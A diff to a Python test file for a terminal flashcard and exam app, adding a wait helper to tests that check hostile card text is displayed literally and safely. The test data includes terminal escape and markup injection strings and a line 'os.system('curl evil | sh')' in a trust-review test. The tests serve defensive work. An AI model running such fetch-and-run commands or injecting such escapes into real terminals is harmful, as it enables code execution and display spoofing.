@@ -66,6 +66,11 @@ def raw_library(decks: Path) -> Library:
     )
 
 
+async def shows(pilot: Any, app: App[Any], text: str) -> None:
+    """Wait until the screen shows `text`: what the assertions that follow read (`screen_text`) holds it."""
+    await wait_for(pilot, lambda: text in screen_text(app), what=f"the screen to show {text!r}")
+
+
 def screen_text(app: App[Any]) -> str:
     """Everything the current screen shows as text, and the screenshot the terminal would get."""
     parts = [str(w.render()) for w in app.screen.query(Static)]
@@ -87,7 +92,7 @@ async def test_study_shows_a_hostile_card_and_its_verdicts_visibly(
         screen = app.study_screen
         await wait_for(pilot, lambda: screen.phase == "question" and screen.card is not None)
         assert screen.card is not None and screen.card.id == "pick.torch"
-        await pilot.pause()
+        await shows(pilot, app, "Pick one \\x1b]0;pwned\\x07 [/x] [bold]now[/bold] raw\\x1b[2K")
         text = screen_text(app)
         assert_safe(text)
         # the prompt reads, literally: its substitution's escapes and its own
@@ -97,7 +102,7 @@ async def test_study_shows_a_hostile_card_and_its_verdicts_visibly(
 
         await pilot.press("b")
         await wait_for(pilot, lambda: screen.phase == "verdict")
-        await pilot.pause()
+        await shows(pilot, app, "Raw \\x1b[2K Because \\x1b[2K [/x] it is so.")
         text = screen_text(app)
         assert_safe(text)
         assert "[/x] \\x1b[5m blink" in text  # the truth its code computed
@@ -105,13 +110,13 @@ async def test_study_shows_a_hostile_card_and_its_verdicts_visibly(
 
         await pilot.press("1")
         await wait_for(pilot, lambda: screen.phase == "question" and screen.card.id == "boom.torch")  # type: ignore[union-attr]
-        await pilot.pause()
+        await shows(pilot, app, "What is x? \\x9b2K \\u202e")
         text = screen_text(app)
         assert_safe(text)
         assert "What is x? \\x9b2K \\u202e" in text  # C1 and bidi from a substitution
         await pilot.press("1", "enter")
         await wait_for(pilot, lambda: screen.phase == "verdict")
-        await pilot.pause()
+        await shows(pilot, app, "ValueError: bad \\x1b]0;pwned\\x07 [/x] value")
         text = screen_text(app)
         assert_safe(text)
         assert "ValueError: bad \\x1b]0;pwned\\x07 [/x] value" in text  # the exception message
@@ -147,7 +152,7 @@ async def test_an_exam_and_its_report_show_hostile_text_visibly(
         await wait_for(pilot, lambda: exam.run is not None and exam.query_one("#card").display)
         for n in range(3):
             await wait_for(pilot, lambda n=n: exam.position == n)
-            await pilot.pause()
+            await shows(pilot, app, f"question {n + 1} of 3")
             text = screen_text(app)
             assert_safe(text)
             if not sandbox_for().full:
@@ -159,7 +164,7 @@ async def test_an_exam_and_its_report_show_hostile_text_visibly(
             else:
                 await pilot.press("2", "enter")
         await wait_for(pilot, lambda: isinstance(app.screen, ExamReportScreen), timeout=60)
-        await pilot.pause()
+        await shows(pilot, app, "Raw \\x1b[2K Because \\x1b[2K [/x] it is so.")
         text = screen_text(app)
         assert_safe(text)
         assert "Raw \\x1b[2K Because \\x1b[2K [/x] it is so." in text  # a missed card's explanation
@@ -210,7 +215,7 @@ async def test_the_trust_review_shows_every_line_of_code_even_one_an_escape_woul
     request = TrustRequest(deck=deck, path=Path(deck.path), data=b"", state=Trust.NEW, review=review(deck))
     app = TrustApp(request)
     async with app.run_test(size=(120, 40)) as pilot:
-        await pilot.pause()
+        await shows(pilot, app, "os.system('curl evil | sh')")
         text = screen_text(app)
     assert_safe(text)
     assert "# harmless\\x1b[2K\\x1b[1A" in text and "os.system('curl evil | sh')" in text
